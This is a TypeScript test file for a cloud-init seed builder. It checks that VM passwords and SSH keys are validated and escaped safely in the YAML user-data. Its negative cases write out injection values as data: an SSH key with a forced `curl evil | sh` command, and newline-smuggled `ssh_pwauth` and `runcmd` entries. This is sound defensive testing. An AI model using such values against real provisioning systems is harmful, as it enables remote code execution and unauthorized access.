/**
 * The cloud-init seed of a Linux VM: hostile SSH keys and passwords are
 * refused by the create schema; odd but valid ones come out of user-data,
 * as parsed by PyYAML (the parser cloud-init uses), exactly as given; even
 * strings that skipped validation stay inside their own string. The seed
 * image holds both documents under their long names, labelled CIDATA.
 */
import assert from "node:assert/strict";
import {
  MAX_SSH_KEYS,
  VmCreateParamsSchema,
  VmPasswordSchema,
  VmSshKeySchema,
} from "../../../../mod/mod.ts";
import {
  buildSeedImage,
  type GuestLogin,
  SEED_LABEL,
  seedMetaData,
  type SeedSpec,
  seedUserData,
} from "../../../../node_service/vm/cloud_init/nocloud_seed.ts";
import { ECDSA_BODY, ECDSA_KEY, ED25519_BODY, ED25519_KEY } from "../../../fixtures/ssh_keys.ts";
import { scratchDir } from "../../../helpers.ts";
import { run } from "../libvirt_fixture.ts";

/** What PyYAML (cloud-init's parser) makes of each document; one Python for them all. */
async function parseYaml(texts: string[]): Promise<unknown[]> {
  let child: Deno.ChildProcess;
  try {
    child = new Deno.Command("python3", {
      args: [
        "-c",
        "import sys, json, yaml; print(json.dumps([yaml.safe_load(t) for t in json.load(sys.stdin)]))",
      ],
      stdin: "piped",
      stdout: "piped",
      stderr: "piped",
    }).spawn();
  } catch (error) {
    throw new Error(
      `python3 cannot run (${(error as Error).message}): run scripts/system/test_setup.sh as root`,
    );
  }
  const writer = child.stdin.getWriter();
  await writer.write(new TextEncoder().encode(JSON.stringify(texts)));
  await writer.close();
  const output = await child.output();
  const stderr = new TextDecoder().decode(output.stderr);
  assert.equal(output.code, 0, `PyYAML refused a document: ${stderr}\n${texts.join("\n")}`);
  return JSON.parse(new TextDecoder().decode(output.stdout));
}

function seed(login: Partial<GuestLogin> = {}): SeedSpec {
  return {
    instanceId: "vm-abcdefgh23",
    hostname: "vm-abcdefgh23",
    login: { user: "dbc", password: "Secret-pass1", sshKeys: [], passwordSsh: true, ...login },
  };
}

function expectedConfig(login: GuestLogin) {
  return {
    users: [{
      name: login.user,
      sudo: "ALL=(ALL) NOPASSWD:ALL",
      shell: "/bin/bash",
      lock_passwd: false,
      plain_text_passwd: login.password,
      ssh_authorized_keys: [...login.sshKeys],
    }],
    chpasswd: { expire: false },
    ssh_pwauth: login.passwordSsh,
  };
}

const ODD_PASSWORDS = [
  `"quoted" \\back\\slash`,
  ": colon # hash",
  "- dash {brace} [bracket], comma",
  "*alias &anchor !tag %percent",
  "  leading and trailing  ",
  "'single' |pipe >fold",
  "@at `backtick` ?query",
  "12345678",
  "yes-true",
  "null~null",
  "\\n is not a newline",
  "x".repeat(128),
];

Deno.test("user-data is #cloud-config that cloud-init's YAML parser reads exactly as given", async () => {
  const login: GuestLogin = {
    user: "dbc",
    password: ODD_PASSWORDS[0]!,
    sshKeys: [ED25519_KEY, ECDSA_KEY, `ssh-ed25519 ${ED25519_BODY}`],
    passwordSsh: false,
  };
  for (const key of login.sshKeys) assert.ok(VmSshKeySchema.safeParse(key).success, key);
  const userData = seedUserData(seed(login));
  assert.ok(userData.startsWith("#cloud-config\n"));
  assert.match(userData, /^[\x20-\x7e\n]*$/, "printable ASCII only");
  const odd = ODD_PASSWORDS.map((password) => ({
    ...login,
    password,
    sshKeys: [],
    passwordSsh: true,
  }));
  for (const { password } of odd) assert.ok(VmPasswordSchema.safeParse(password).success, password);
  const [parsed, metaData, root, ...parsedOdd] = await parseYaml([
    userData,
    seedMetaData(seed()),
    seedUserData(seed({ user: "root" })),
    ...odd.map((each) => seedUserData(seed(each))),
  ]) as Record<string, unknown>[];
  assert.deepEqual(parsed, expectedConfig(login));
  for (const [index, each] of odd.entries()) {
    assert.deepEqual(parsedOdd[index], expectedConfig(each), each.password);
  }
  assert.deepEqual(metaData, {
    "instance-id": "vm-abcdefgh23",
    "local-hostname": "vm-abcdefgh23",
  });

  // root needs no sudo, and its keys must not be refused (cloud-init's disable_root).
  assert.equal(root!.disable_root, false);
  assert.deepEqual(root!.users, [{
    name: "root",
    lock_passwd: false,
    plain_text_passwd: "Secret-pass1",
    ssh_authorized_keys: [],
  }]);
});

Deno.test("hostile SSH keys and passwords are refused by the create request", () => {
  const hostileKeys = [
    "",
    `${ED25519_KEY}\nssh_pwauth: true`,
    `${ED25519_KEY}\n`,
    `${ED25519_KEY}\r`,
    `ssh-ed25519 ${ED25519_BODY} alice\n#cloud-config`,
    `command="curl evil | sh" ${ED25519_KEY}`,
    `ssh-ed25519\t${ED25519_BODY}`,
    `ssh-dss ${ED25519_BODY}`,
    `ssh-rsa ${ED25519_BODY} names another type than its body`,
    `ssh-ed25519 ${ECDSA_BODY}`,
    "ssh-ed25519 AAAAC3Nza alice@laptop",
    `ssh-ed25519 ${ED25519_BODY.slice(0, 20)}!${ED25519_BODY.slice(21)}`,
    `ssh-ed25519 ${ED25519_BODY} ${"c".repeat(257)}`,
    `ssh-ed25519 ${ED25519_BODY} caf\u00e9`,
    `"ssh-ed25519 ${ED25519_BODY}"`,
  ];
  for (const key of hostileKeys) {
    assert.equal(VmSshKeySchema.safeParse(key).success, false, JSON.stringify(key));
  }
  const hostilePasswords = [
    "short",
    "x".repeat(129),
    "password\nssh_pwauth: true",
    "pass\tword",
    "pass\u007fword",
    "p\u00e4ssword",
    "password\u2028",
  ];
  for (const password of hostilePasswords) {
    assert.equal(VmPasswordSchema.safeParse(password).success, false, JSON.stringify(password));
  }

  const request = (fields: Record<string, unknown>) =>
    VmCreateParamsSchema.safeParse({
      actor: "alice",
      image: "debian-12.qcow2",
      cpu_cores: 1,
      memory_mib: 512,
      ...fields,
    });
  assert.deepEqual(request({}).data?.ssh_keys, []);
  assert.equal(request({}).data?.password, undefined);
  assert.ok(request({ ssh_keys: Array(MAX_SSH_KEYS).fill(ED25519_KEY) }).success);
  assert.equal(request({ ssh_keys: Array(MAX_SSH_KEYS + 1).fill(ED25519_KEY) }).success, false);
  assert.equal(request({ ssh_keys: ED25519_KEY }).success, false, "a list, not one string");
  assert.equal(request({ ssh_keys: [hostileKeys[1]] }).success, false);
  assert.equal(request({ password: hostilePasswords[2] }).success, false);
});

Deno.test("strings that skipped validation still cannot leave their YAML string", async () => {
  const sneaky: GuestLogin = {
    user: "dbc",
    password: 'x"\nssh_pwauth: true\nruncmd: [reboot]\n#\u007f\u00e9\u2028\ud83d\ude00\t\\',
    sshKeys: [`${ED25519_KEY}\n  - ssh-rsa AAAA evil`, "\u0000\u001b[31m"],
    passwordSsh: false,
  };
  const userData = seedUserData(seed(sneaky));
  assert.match(userData, /^[\x20-\x7e\n]*$/, "printable ASCII only");
  assert.deepEqual(await parseYaml([userData]), [expectedConfig(sneaky)]);
});

Deno.test("the seed image holds meta-data and user-data under their names, labelled CIDATA", async () => {
  const dir = await scratchDir("nocloud-seed");
  try {
    const spec = seed({ sshKeys: [ED25519_KEY, ECDSA_KEY], password: ODD_PASSWORDS[1]! });
    const path = `${dir}/seed.img`;
    await Deno.writeFile(path, buildSeedImage(spec));
    const fsck = await run("fsck.fat", ["-n", path]);
    assert.equal(fsck.code, 0, fsck.stdout + fsck.stderr);
    const userData = await run("mtype", ["-i", path, "::/user-data"]);
    assert.equal(userData.stdout, seedUserData(spec));
    const metaData = await run("mtype", ["-i", path, "::/meta-data"]);
    assert.equal(metaData.stdout, seedMetaData(spec));
    const label = await run("mlabel", ["-i", path, "-s", "::"]);
    assert.equal(label.stdout.trim(), `Volume label is ${SEED_LABEL}`);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});
